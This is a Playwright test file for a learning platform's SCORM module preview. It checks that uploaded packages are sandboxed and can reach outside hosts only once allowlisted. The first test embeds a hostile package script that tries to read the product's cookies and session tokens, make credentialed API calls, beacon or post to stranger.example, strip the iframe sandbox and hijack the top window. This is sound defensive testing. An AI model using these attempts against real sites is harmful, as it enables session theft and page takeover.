// Content that does what it may not makes the browser complain, so these stories are not watched
// for such complaints.
import { expect, type Page, test } from '@playwright/test';
import { makeModule } from './make-module.ts';
import { people } from './people.ts';
import { signIn } from './sessions.ts';
import { packageOf } from './small-package.ts';

/** What a previewed module writes into its element `outcome`. */
async function outcomeOf(page: Page, name: string) {
  const [window] = await Promise.all([page.waitForEvent('popup'), page.getByRole('button', { name: `Förhandsgranska: ${name}` }).click()]);
  const outcome = window.frameLocator('iframe[title="Modulens innehåll"]').locator('#outcome');
  await expect(outcome).not.toBeEmpty();
  const text = (await outcome.textContent()) ?? '';
  await window.close();
  await expect(page.getByRole('button', { name: `Förhandsgranska: ${name}` })).toBeEnabled();
  return text;
}

test('a hostile package reaches nobody and nothing but itself', async ({ page, baseURL }) => {
  const product = baseURL ?? '';
  const content = `http://m1.localhost:${Number(new URL(product).port) + 1}`;
  const name = `Fientlig modul ${Date.now()}`;
  const opened: string[] = [];
  page.context().on('page', (each) => opened.push(each.url()));
  const hostile = `<!doctype html><html lang="sv"><title>Fientlig</title><h1>Fientlig</h1><pre id="outcome"></pre><script>
    const runtime = parent.API_1484_11;
    const tries = {
      'cookie of the product': async () => document.cookie,
      'session of the product': async () => localStorage.getItem('token') || localStorage.getItem('refresh_token') || '',
      'call with the session': () => fetch('${product}/api/Module', { credentials: 'include' }).then((reply) => reply.text()),
      'blind call': () => fetch('${product}/message.json', { mode: 'no-cors' }).then(() => 'sent'),
      'picture from the product': () => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => reject(new Error('stopped'));
        image.src = '${product}/favicon.svg';
      }),
      'page of the product in a frame': () => new Promise((resolve, reject) => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } };
        frame.src = '${product}/';
        setTimeout(() => reject(new Error('stopped')), 2000);
      }),
      'opener': async () => (window.opener || parent.opener || top.opener) ? 'found' : '',
      'another package here': () => fetch('/scorm/p/1/index.html').then((reply) => reply.ok ? reply.text() : Promise.reject(new Error(reply.status))),
      'another package at its host': () => fetch('${content}/scorm/p/1/index.html', { mode: 'no-cors' }).then(() => 'sent'),
      'stranger': () => fetch('https://stranger.example/', { mode: 'no-cors' }).then(() => 'sent'),
      'socket': () => new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://stranger.example/');
        socket.onopen = () => resolve('open');
        socket.onerror = () => reject(new Error('stopped'));
      }),
      'beacon': async () => { let stopped = false; document.addEventListener('securitypolicyviolation', () => { stopped = true; });
        navigator.sendBeacon('https://stranger.example/beacon', 'x'); await new Promise((go) => setTimeout(go, 300)); return stopped ? '' : 'sent'; },
      'form': () => new Promise((resolve, reject) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => effectiveDirective === 'form-action' && reject(new Error('stopped')));
        const form = document.body.appendChild(document.createElement('form'));
        form.action = 'https://stranger.example/'; form.target = '_blank'; form.submit();
        setTimeout(() => resolve(''), 500);
      }),
      'service worker': () => navigator.serviceWorker.register('start.html').then(() => 'registered'),
      'window': async () => window.open('https://stranger.example/') ? 'opened' : '',
      'window of the page around it': async () => parent.open('https://stranger.example/') ? 'opened' : '',
      'window of a frame in the page around it': async () => {
        const frame = parent.document.body.appendChild(parent.document.createElement('iframe'));
        return frame.contentWindow.open('https://stranger.example/') ? 'opened' : '';
      },
      'frame without a sandbox': async () => { window.frameElement.removeAttribute('sandbox'); return ''; },
      'link in the page around it': async () => {
        const link = parent.document.body.appendChild(parent.document.createElement('a'));
        link.href = 'https://stranger.example/'; link.click();
        await new Promise((go) => setTimeout(go, 300)); return '';
      },
      'script of the page around it': async () => { parent.eval("location.href = 'https://stranger.example/'"); await new Promise((go) => setTimeout(go, 300)); return ''; },
      'page around it': async () => { top.location.href = '${product}/?taken'; await new Promise((go) => setTimeout(go, 300)); return ''; },
    };
    (async () => {
      const reached = [];
      for (const [what, attempt] of Object.entries(tries)) {
        try { const got = await attempt(); if (got) reached.push(what + ': ' + got); } catch {}
      }
      document.getElementById('outcome').textContent = reached.join('\\n') || 'nothing';
    })();
  </script></html>`;
  await signIn(page, people.superuser);
  await page.context().addCookies([{ name: 'hemlig', value: 'kaka', url: product }]);
  await makeModule(page, name, await packageOf(hostile));
  expect(await outcomeOf(page, name)).toBe('nothing');
  // The module's own window, and no other.
  expect(opened).toHaveLength(1);
  await page.reload();
  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
});

test('a package reaches outside only where it was allowed', async ({ page: superuser }) => {
  const name = `Nyfiken modul ${Date.now()}`;
  await signIn(superuser, people.superuser);
  const page = `<!doctype html><html lang="sv"><title>Nyfiken</title><h1>Nyfiken</h1><p id="outcome"></p><script>
    const runtime = parent.API_1484_11;
    const seen = (text) => { document.getElementById('outcome').textContent += text + ' '; };
    fetch('https://metrics.gesall-test.example/beacon', { method: 'POST' }).then(() => seen('ut'), () => seen('stopp'));
  </script></html>`;
  await makeModule(superuser, name, await packageOf(page));
  // The world outside, as far as this test needs it.
  await superuser
    .context()
    .route('https://metrics.gesall-test.example/**', (route) =>
      route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'ok' }),
    );

  expect((await outcomeOf(superuser, name)).trim()).toBe('stopp');

  const allow = superuser.getByRole('switch', { name: 'Tillåt metrics.gesall-test.example' });
  await expect(async () => {
    await superuser.reload();
    await expect(allow).toBeVisible({ timeout: 1000 });
  }).toPass();
  await expect(superuser.getByText(/Försökt 1 gång,/)).toBeVisible();
  await allow.click({ force: true });
  await expect(allow).toBeChecked();
  // The page looks every half second whether a window is closed, and opens no other before it has
  // seen that.
  const patience = { timeout: 30_000, intervals: [1000] };
  await expect.poll(async () => (await outcomeOf(superuser, name)).trim(), patience).toBe('ut');

  await superuser.getByLabel('Tillåt ännu en adress').fill('inte en adress');
  await superuser.getByRole('button', { name: 'Tillåt', exact: true }).click();
  await expect(superuser.getByRole('alert')).toBeVisible();
});
